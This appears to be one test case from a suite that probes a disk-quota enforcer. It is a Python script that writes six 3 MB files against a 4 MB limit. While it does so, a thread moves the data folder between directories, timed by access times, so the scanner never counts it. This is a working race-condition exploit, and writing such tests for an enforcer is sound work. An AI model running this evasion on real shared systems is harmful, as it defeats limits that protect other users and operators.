"""Moves its files from a folder that is still to be counted to one that just was: it knows by the
time of reading.

Here: 6 files of 3 MB, of the 4 MB that it may have.
"""

import os
import threading
import time

from attack import bomb, scratch


def flee():
    here, there = f"{scratch}/x", f"{scratch}/y"
    while True:
        before = os.stat(there).st_atime_ns
        while os.stat(there).st_atime_ns == before:
            pass
        os.rename(f"{here}/data", f"{there}/data")
        time.sleep(0.005)
        os.rename(f"{there}/data", f"{here}/data")


@bomb
def _():
    for name in ("x", "y"):
        os.mkdir(f"{scratch}/{name}")
    if next(entry.name for entry in os.scandir(scratch)) == "y":  # the last is counted first
        for old, new in ("xz", "yx", "zy"):
            os.rename(f"{scratch}/{old}", f"{scratch}/{new}")
    os.mkdir(f"{scratch}/x/data")
    large = [
        os.open(f"{scratch}/x/data/large{number}", os.O_CREAT | os.O_RDWR) for number in range(6)
    ]
    threading.Thread(target=flee, daemon=True).start()
    for file in large:
        os.posix_fallocate(file, 0, 3_000_000)
